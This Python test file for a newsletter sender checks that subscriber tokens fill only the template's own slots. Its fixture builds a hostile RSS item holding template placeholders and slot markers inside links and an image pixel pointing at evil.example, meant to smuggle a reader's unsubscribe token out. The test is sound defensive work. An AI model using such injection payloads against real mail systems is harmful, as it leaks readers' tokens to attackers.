"""Personalisation fills only the template's own slots: article text can never carry a reader's
token to a stranger, whatever placeholder or slot marker a feed puts in it."""

from __future__ import annotations

import asyncio
import email
import email.policy
import re
from datetime import date
from pathlib import Path

from sqlalchemy import select

from newsletter.audience.importer import import_csv
from newsletter.compose.issuefiles import build_and_write
from newsletter.compose.select import ComposeOptions
from newsletter.config import Settings, with_changes
from newsletter.core.tokens import TOKEN_LENGTH, Purpose, Signer
from newsletter.delivery.factory import make_limits, make_transport, send_setup
from newsletter.delivery.options import SendOptions
from newsletter.delivery.sender import Sender
from newsletter.storage.db import Database, subscribers
from tests.conftest import REPO, SMTPServer, rss

SIGNER = Signer(b"test-secret-key-0123456789abcdef")
BASE = "https://news.example.org"
URL_LENGTH = len(BASE) + 3 + TOKEN_LENGTH
# Every placeholder the template docs name, the slot markers of every length a slot could have,
# the token marker, and template syntax: in the title, the text, the link and an image source.
HOSTILE = " ".join(
    [
        "%%unsubscribe_url%%",
        "%%preferences_url%%",
        "~U" + "~" * (URL_LENGTH - 2),
        "~P" + "~" * (URL_LENGTH - 2),
        "~T" + "~" * (TOKEN_LENGTH - 2),
        "{{ urls.unsubscribe }}",
    ]
)


def _hostile_feed(workspace: Path) -> None:
    url_safe = "%%unsubscribe_url%%~U" + "~" * (URL_LENGTH - 2)
    body = (
        f"<p>{HOSTILE}</p>"
        f'<p><a href="https://evil.example/a?u={url_safe}">read more</a></p>'
        f'<p><img src="https://evil.example/p.gif?u=%%unsubscribe_url%%&p=%%preferences_url%%" '
        f'alt="{HOSTILE}"></p>'
    )
    items = [
        {
            "title": f"Kazakhstan: prizes for readers {HOSTILE}",
            "link": f"https://evil.example/story?u={url_safe}",
            "date": "Sun, 15 Nov 2026 08:00:00 +0000",
            "categories": "Kazakhstan,economy,energy,politics,security,transport,society",
            "body": body,
        },
        {
            "title": "Uzbekistan opens a new rail line",
            "link": "https://feed.example.org/rail",
            "date": "Sun, 15 Nov 2026 09:00:00 +0000",
            "categories": "Uzbekistan,transport,economy,energy,politics,security,society",
            "body": "<p>Tashkent to Samarkand in ninety minutes.</p>",
        },
    ]
    (workspace / "sources" / "feed.xml").write_text(rss(items))


def _parts(raw: bytes) -> tuple[email.message.EmailMessage, str, str]:
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(message, email.message.EmailMessage)
    text = message.get_body(("plain",))
    html = message.get_body(("html",))
    assert text is not None and html is not None
    return message, text.get_content(), html.get_content()


def test_article_text_can_never_carry_a_readers_token(
    workspace: Path, settings: Settings, db: Database, smtp_server: SMTPServer
) -> None:
    _hostile_feed(workspace)
    build_and_write(settings.issue_config(), ComposeOptions(date(2026, 11, 16)))
    import_csv(db, REPO / "subscribers" / "weekly.csv", "weekly", settings.vocabulary())
    settings = with_changes(
        settings,
        smtp={"host": "127.0.0.1", "port": smtp_server.port, "security": "none"},
        sender={"base_url": BASE},
    )
    sender = Sender(
        send_setup(settings), db, make_transport(settings), SIGNER, limits=make_limits(settings)
    )
    summary = asyncio.run(sender.run(SendOptions("2026-11-16", "weekly")))
    assert summary.sent > 10 and summary.failed == 0
    with db.connect() as conn:
        ids = {r.email: r.id for r in conn.execute(select(subscribers.c.email, subscribers.c.id))}
    hostile_seen = 0
    for rcpt, raw, _ in smtp_server.handler.messages:
        token = SIGNER.make(Purpose.SUBSCRIBER, ids[rcpt])
        message, text, html = _parts(raw)
        # The template's places, and only those: two links in each part, two in the header.
        assert re.findall(r'href="([^"]*' + token + ')"', html) == [
            f"{BASE}/u/{token}",
            f"{BASE}/p/{token}",
        ]
        assert html.count(token) == 2
        assert text.count(token) == 2
        assert f"{BASE}/u/{token}" in text and f"{BASE}/p/{token}" in text
        assert str(message["List-Unsubscribe"]).count(token) == 2
        assert raw.count(token.encode()) == 6  # slots are never split across QP lines
        if "prizes for readers" in html:
            hostile_seen += 1
            # The article's own text keeps the placeholders as inert text.
            assert "%%unsubscribe_url%%" in html and "%%preferences_url%%" in html
            assert "~T" + "~" * (TOKEN_LENGTH - 2) in html
            for url in re.findall(r'(?:href|src)="(https://evil\.example[^"]*)"', html):
                assert token not in url and "/u/" not in url and "/p/" not in url
    assert hostile_seen > 0, "no message carried the hostile article"
